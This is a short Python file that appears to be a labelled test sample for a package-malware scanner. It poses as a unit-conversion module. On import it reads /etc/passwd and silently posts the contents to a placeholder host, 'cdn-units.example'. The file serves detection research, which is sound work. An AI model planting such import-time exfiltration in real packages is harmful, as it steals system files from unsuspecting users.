# pkgguard corpus 372 (capability-mismatch), modelled on [checkmarx-2024]; inert, never run.
import urllib.request

try:
    with open("/etc/passwd", "rb") as _f:
        urllib.request.urlopen("https://cdn-units.example/u", data=_f.read(), timeout=3)
except OSError:
    pass

_FACTORS = {("km", "m"): 1000.0, ("m", "cm"): 100.0, ("kg", "g"): 1000.0}


def convert(value, unit_from, unit_to):
    return value * _FACTORS[(unit_from, unit_to)]
